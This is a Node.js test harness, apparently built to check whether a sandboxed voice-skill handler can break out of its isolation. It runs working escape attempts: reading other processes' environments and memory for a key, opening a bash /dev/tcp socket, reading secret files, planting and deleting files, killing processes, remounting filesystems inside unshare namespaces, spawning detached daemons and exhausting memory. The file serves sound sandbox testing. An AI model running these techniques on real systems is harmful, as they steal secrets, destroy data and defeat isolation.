// The same attacks as the Python skill's, as far as Node or a program that it starts can do them.
'use strict';

const { spawn, spawnSync, execFileSync } = require('child_process');
const dgram = require('dgram');
const fs = require('fs');
const net = require('net');
const os = require('os');
const path = require('path');

const targets = JSON.parse(process.env.TARGETS);
const key = targets.key.join('');

const processes = () => fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name));

function search(file, mark) {
  for (const pid of processes()) {
    let content = '';
    try { content = fs.readFileSync(`/proc/${pid}/${file}`, 'latin1'); } catch (err) { continue; }
    if (content.includes(mark)) return `process ${pid}`;
  }
  throw new Error('no process has it');
}

const heard = (options) => new Promise((resolve, reject) => {
  const socket = net.connect(options);
  socket.setTimeout(2000, () => { socket.destroy(); reject(new Error('nothing is heard')); });
  socket.on('data', (data) => { socket.destroy(); resolve(String(data)); });
  socket.on('error', reject);
});

function printed(program, args) {
  return execFileSync(program, args, { timeout: 10000, stdio: ['ignore', 'pipe', 'pipe'] }).toString().trim();
}

const write = (file) => { fs.writeFileSync(file, 'stolen'); return 'written'; };

const attacks = {
  parent_environment: () => search('environ', key),
  own_environment: () => { if (!JSON.stringify(process.env).includes(key)) throw new Error('not here'); return 'inherited'; },
  other_processes: () => search('cmdline', targets.victim_mark),
  // Another process of Node has no guard around its sockets.
  other_host: () => printed(process.execPath, ['-e',
    `require('net').connect(${targets.port}, '127.0.0.2').on('data', (data) => { console.log(String(data)); process.exit(); })`]),
  loopback: () => heard({ port: targets.port, host: '127.0.0.1' }),
  shell: () => printed('bash', ['-c', `exec 3<>/dev/tcp/127.0.0.2/${targets.port}; timeout 2 head -c 6 <&3`]),
  datagram: () => new Promise((resolve, reject) => {
    const socket = dgram.createSocket('udp4');
    const timer = setTimeout(() => { socket.close(); reject(new Error('nothing is heard')); }, 300);
    socket.on('message', (data) => { clearTimeout(timer); socket.close(); resolve(String(data)); });
    socket.on('error', (err) => { clearTimeout(timer); reject(err); });
    socket.send('stolen', targets.udp_port, '127.0.0.2', (err) => { if (err) { clearTimeout(timer); reject(err); } });
  }),
  unix_socket: () => heard({ path: targets.unix }),
  read_secret: () => fs.readFileSync(targets.secret, 'utf8'),
  write_home: () => write(path.join(targets.home, '.profile')),
  write_beside: () => write(path.join(targets.beside, 'planted.txt')),
  write_skill: () => write(path.join(targets.skill, 'planted.txt')),
  write_temporary: () => write(targets.temporary),
  write_shared_memory: () => write(targets.shared_memory),
  delete: () => { fs.unlinkSync(path.join(targets.beside, 'precious.txt')); return 'deleted'; },
  write_kernel_setting: () => {
    const file = '/proc/sys/vm/overcommit_ratio';
    fs.writeFileSync(file, fs.readFileSync(file));
    return 'written';
  },
  kill_victim: () => { process.kill(targets.victims[0], 'SIGKILL'); return 'killed'; },
  kill_parent: () => { process.kill(targets.sparring, 'SIGCONT'); return 'the test takes signals'; },
  read_memory: () => `opened, ${fs.openSync(`/proc/${targets.victims[1]}/mem`, 'r')}`,
  remount: () => {
    const run = spawnSync('mount', ['-t', 'tmpfs', 'none', targets.beside]);
    if (run.status !== 0) throw new Error(String(run.stderr));
    spawnSync('umount', ['-l', targets.beside]);
    return 'mounted';
  },
  nested_namespaces: () => printed('unshare', ['-Urm', 'sh', '-c',
    `umount -l ${targets.home} /tmp 2>/dev/null; mount -o remount,rw,bind / 2>/dev/null; `
    + `cat ${targets.secret} 2>/dev/null || { echo stolen > ${path.join(targets.beside, 'planted.txt')} && echo written; }`]),
  daemons: () => {
    const script = `const { spawn } = require('child_process'); spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000)', '${targets.daemon_mark}'], { detached: true, stdio: 'ignore' }).unref();`;
    const run = spawnSync(process.execPath, ['-e', script]);
    if (run.status !== 0) throw new Error(String(run.stderr));
    return 'started';
  },
  memory: () => {
    const blocks = [];
    for (let count = 0; count < 48; count += 1) blocks.push(Buffer.alloc(64 << 20, 120));
    return `${blocks.length * 64} MiB`;
  },
};

exports.handler = async () => {
  const outcomes = {};
  for (const name of targets.attacks) {
    try {
      outcomes[name] = ['escaped', String(await attacks[name]()).slice(0, 200)];
    } catch (err) {
      outcomes[name] = ['held', `${err.code || err.name}: ${err.message}`.slice(0, 200)];
    }
  }
  const outputSpeech = { type: 'PlainText', text: JSON.stringify(outcomes) };
  return { version: '1.0', response: { outputSpeech, shouldEndSession: false } };
};
